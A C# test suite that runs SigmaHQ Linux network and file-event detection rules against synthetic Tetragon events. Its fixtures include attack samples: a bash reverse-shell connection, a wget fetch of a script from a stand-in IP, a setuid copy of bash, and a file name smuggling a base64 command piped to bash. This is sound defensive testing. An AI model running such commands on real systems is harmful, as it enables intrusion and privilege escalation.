using static ZtStream.Verifier.Tests.Rules.Sigma.TetragonCalls;

namespace ZtStream.Verifier.Tests.Rules.Sigma;

/// <summary>
/// SigmaHQ's own Linux network-connection and file-event rules (TestData/sigma-hq/linux-network-connection,
/// linux-file-event), loaded as published and run on Tetragon policy events through the reader Ingest uses: each beside
/// a near miss, in a pod and on the node, over IPv4 and IPv6, with and without a user, on other ports and paths.
/// </summary>
public sealed class SigmaHqLinuxNetworkAndFileTests
{
    private static readonly Lazy<RuleLoadResult> Network = new(() => SigmaHqFolders.Load("linux-network-connection"));
    private static readonly Lazy<RuleLoadResult> Files = new(() => SigmaHqFolders.Load("linux-file-event"));

    private static Rule NetworkRule(string id) => Network.Value.Rules.Single(r => r.Id == id);

    private static Rule FileRule(string id) => Files.Value.Rules.Single(r => r.Id == id);

    private static Dictionary<string, string> Failures(RuleLoadResult set) =>
        set.Errors.ToDictionary(e => Path.GetFileNameWithoutExtension(e.File), e => e.Reason, StringComparer.Ordinal);

    [Fact]
    public void NetworkFolder_LoadsTheRulesReadingAddressesAndPorts_AndRefusesTheOthersWithTheirReason()
    {
        var set = Network.Value;
        Assert.Equal(
            ["83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871", "6c1f4d8a-2e5b-4c9f-a7d3-0b5e8f1c4a6d", "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376"],
            set.Rules.Select(r => r.Id));
        Assert.All(set.Rules, r => Assert.Equal([EventKinds.RuntimeAlert], r.Kinds));

        var failures = Failures(set);
        Assert.Equal(7, failures.Count);
        foreach (var name in (string[])["net_connection_github_myjino_ru", "net_connection_lnx_crypto_mining_indicators", "net_connection_lnx_domain_localtonet_tunnel", "net_connection_lnx_ngrok_tunnel", "net_connection_lnx_oast_domain"])
        {
            Assert.StartsWith("field 'DestinationHostname' has no value in a Linux network connection", failures[name], StringComparison.Ordinal);
        }

        Assert.StartsWith("field 'ProcessArgs' is not a field of a Linux network connection", failures["net_connection_lnx_rev_shell"], StringComparison.Ordinal);
        Assert.StartsWith("logsource (category: -, product: linux, service: -) has no field mapping", failures["linux_syslog_networkmanager_hotspot_activation"], StringComparison.Ordinal);
    }

    [Fact]
    public void FileFolder_LoadsEveryRuleButTheOneReadingNonSysmonFields()
    {
        var set = Files.Value;
        Assert.Equal(20, set.Rules.Count);
        Assert.All(set.Rules, r => Assert.Equal([EventKinds.RuntimeAlert], r.Kinds));
        var failure = Assert.Single(Failures(set));
        Assert.Equal("file_event_lnx_new_suid_file", failure.Key);
        Assert.StartsWith("field 'Command' is not a field of a Linux file event", failure.Value, StringComparison.Ordinal);
    }

    [Fact]
    public void ReverseShellIndicator_IsBashConnectingAnywhereButLocalhost()
    {
        var rule = NetworkRule("83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871");

        Assert.True(rule.Fires(Format, TcpConnect("/usr/bin/bash", "198.51.100.7", 4242, arguments: "-i")));
        Assert.True(rule.Fires(Format, TcpConnect("/bin/bash", "2001:db8:ff::9", 9001, "2001:db8:1::7", pod: false, user: null)));
        Assert.False(rule.Fires(Format, TcpConnect("/usr/bin/bash", "127.0.0.1", 8080, "127.0.0.1")));
        Assert.False(rule.Fires(Format, TcpConnect("/usr/bin/curl", "198.51.100.7", 4242)));

        // bash writing to a file is no connection.
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/bash", "/tmp/out")));
    }

    [Fact]
    public void CloudMetadataByInterpreters_IsPythonOrNodeConnectingToTheMetadataService()
    {
        var rule = NetworkRule("6c1f4d8a-2e5b-4c9f-a7d3-0b5e8f1c4a6d");

        Assert.True(rule.Fires(Format, SocketConnect("/usr/bin/python3.12", "169.254.169.254", 80, "-c import urllib")));
        Assert.True(rule.Fires(Format, TcpConnect("/usr/local/bin/node", "169.254.170.2", 80, pod: false, user: "app")));
        Assert.False(rule.Fires(Format, SocketConnect("/usr/bin/curl", "169.254.169.254", 80)));
        Assert.False(rule.Fires(Format, SocketConnect("/usr/bin/python3", "169.254.169.253", 53)));
    }

    [Fact]
    public void MalwareCallbackPort_IsAnOutboundConnectionToOneOfItsPorts_OutsideLocalRanges()
    {
        var rule = NetworkRule("dbfc7c98-04ab-4ab7-aa94-c74d22aa7376");

        Assert.True(rule.Fires(Format, TcpConnect("/tmp/.x/agent", "203.0.113.9", 4444)));
        Assert.True(rule.Fires(Format, TcpConnect("/tmp/.x/agent", "2001:db8:ff::9", 2222, "2001:db8:1::7", pod: false)));
        Assert.True(rule.Fires(Format, SocketConnect("/usr/bin/socat", "198.51.100.20", 51820, user: null)));
        Assert.False(rule.Fires(Format, TcpConnect("/tmp/.x/agent", "203.0.113.9", 443)));
        Assert.False(rule.Fires(Format, TcpConnect("/tmp/.x/agent", "10.96.0.10", 4444)));
        Assert.False(rule.Fires(Format, TcpConnect("/tmp/.x/agent", "fd00:10::5", 4444, "fd00:10::7")));
        Assert.False(rule.Fires(Format, TcpConnect("/tmp/.x/agent", "fe80::1", 2222, "fe80::2")));
    }

    [Fact]
    public void DoasConf_AndSudoersD_AreTheirFilesWritten()
    {
        var doas = FileRule("00eee2a5-fdb0-4746-a21d-e43fbdea5681");
        var sudoers = FileRule("ddb26b76-4447-4807-871f-1b035b2bfa5d");

        Assert.True(doas.Fires(Format, FilePermission("/usr/bin/tee", "/etc/doas.conf")));
        Assert.False(doas.Fires(Format, FilePermission("/usr/bin/cat", "/etc/doas.conf", mask: 4)));
        Assert.True(sudoers.Fires(Format, FilePermission("/usr/bin/cp", "/etc/sudoers.d/ebpfbackdoor", pod: false)));
        Assert.False(sudoers.Fires(Format, FilePermission("/usr/sbin/visudo", "/etc/sudoers")));
    }

    [Fact]
    public void NewCronFile_IsAWriteUnderTheCronDirectories_ButThePackagedOnes()
    {
        var rule = FileRule("6c4e2f43-d94d-4ead-b64d-97e53fa2bd05");

        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/bash", "/etc/cron.d/update", user: "www-data")));
        Assert.True(rule.Fires(Format, Truncate("/usr/bin/bash", "/var/spool/cron/crontabs/root")));
        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/crontab", "/etc/crontab", type: "process_lsm")));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/dpkg", "/etc/cron.daily/dpkg")));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/cat", "/etc/cron.d/update", mask: 4)));
    }

    [Fact]
    public void AuthorizedKeys_ModifiedByAnyoneButSshd_AndWrittenByRedis()
    {
        var modified = FileRule("e7806bcc-7464-4ecd-9dd5-22bf0e3cb0f3");
        var redis = FileRule("5a6dff70-3536-49cb-b14a-f39da78d417c");

        Assert.True(modified.Fires(Format, FilePermission("/usr/bin/bash", "/home/dev/.ssh/authorized_keys", user: "dev")));
        Assert.False(modified.Fires(Format, FilePermission("/usr/sbin/sshd", "/home/dev/.ssh/authorized_keys")));
        Assert.False(modified.Fires(Format, FilePermission("/usr/bin/bash", "/home/dev/.ssh/known_hosts")));
        Assert.True(redis.Fires(Format, FilePermission("/usr/local/bin/redis-server", "/root/.ssh/authorized_keys", arguments: "*:6379", user: "redis")));
        Assert.False(redis.Fires(Format, FilePermission("/usr/local/bin/redis-server", "/data/dump.rdb", user: "redis")));
    }

    [Fact]
    public void SystemdUnit_CreatedByAnythingButAPackageManagerOrSystemd()
    {
        var rule = FileRule("62641464-0c1a-40b2-aeb0-fc61b5c2fec3");

        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/curl", "/etc/systemd/system/kworker.service")));
        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/python3", "/home/dev/.config/systemd/user/sync.timer", pod: false, user: "dev")));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/dpkg", "/lib/systemd/system/nginx.service")));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/curl", "/etc/systemd/system/kworker.conf")));
    }

    [Fact]
    public void WgetInTmp_IsWgetWritingUnderTmp()
    {
        var rule = FileRule("35a05c60-9012-49b6-a11f-6bab741c9f74");

        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/wget", "/tmp/x.sh", arguments: "-O /tmp/x.sh http://203.0.113.9/x.sh")));
        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/wget", "/var/tmp/.cache/kinsing", pod: false)));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/curl", "/tmp/x.sh")));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/wget", "/srv/app/release.tar.gz")));
    }

    [Fact]
    public void ShellOutsideStandardPaths_AndByInstall_AreShellBinariesDroppedElsewhere()
    {
        var dropped = FileRule("c2a5d8e3-9b47-4f1a-d628-4f1e7c2b9a65");
        var install = FileRule("e8c3b5f2-4d71-4a92-f853-7e4d9a2c6b18");

        Assert.True(dropped.Fires(Format, FilePermission("/usr/bin/cp", "/tmp/.hidden/bash")));
        Assert.False(dropped.Fires(Format, FilePermission("/usr/bin/dpkg", "/usr/bin/bash")));
        Assert.True(install.Fires(Format, FilePermission("/usr/bin/install", "/var/tmp/rootbash", arguments: "-m 4755 /bin/bash /var/tmp/rootbash")));
        Assert.False(install.Fires(Format, FilePermission("/usr/bin/install", "/usr/local/bin/zsh")));
        Assert.False(install.Fires(Format, FilePermission("/usr/bin/cp", "/var/tmp/rootbash")));
    }

    [Fact]
    public void VShellFilenames_AreLongOrCarryAnEncodedCommand()
    {
        var base64 = FileRule("179b3686-6271-4d87-807d-17d843a8af73");
        var longName = FileRule("11629c4d-0fe6-465b-be62-b39a1c442aad");

        Assert.True(base64.Fires(Format, FilePermission("/usr/bin/bash", "/tmp/x$(echo${IFS}{echo,aWQ=}|{base64,-d}|bash)")));
        Assert.False(base64.Fires(Format, FilePermission("/usr/bin/bash", "/tmp/echo.txt")));
        Assert.True(longName.Fires(Format, FilePermission("/usr/bin/bash", "/tmp/" + new string('a', 40))));
        Assert.False(longName.Fires(Format, FilePermission("/usr/bin/bash", "/tmp/" + new string('a', 39))));
    }

    [Fact]
    public void TripleCrossLockFile_IsTmpRootlogExactly()
    {
        var rule = FileRule("c0239255-822c-4630-b7f1-35362bcb8f44");

        Assert.True(rule.Fires(Format, FilePermission("/tmp/execve_hijack", "/tmp/rootlog", pod: false)));
        Assert.False(rule.Fires(Format, FilePermission("/tmp/execve_hijack", "/tmp/rootlog.1")));
    }

    [Fact]
    public void PythonStartupHook_IsSiteOrUserCustomizeWrittenByAnythingButAPackageManager()
    {
        var rule = FileRule("58ccd8d4-d435-408b-9ae7-c7aa1911bd7f");

        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/python3", "/usr/lib/python3/dist-packages/sitecustomize.py")));
        Assert.True(rule.Fires(Format, FilePermission("/usr/bin/bash", "/home/dev/.local/lib/python3.12/site-packages/usercustomize.py", user: "dev")));
        Assert.False(rule.Fires(Format, FilePermission("/usr/bin/apt-get", "/usr/lib/python3/dist-packages/sitecustomize.py")));
    }
}
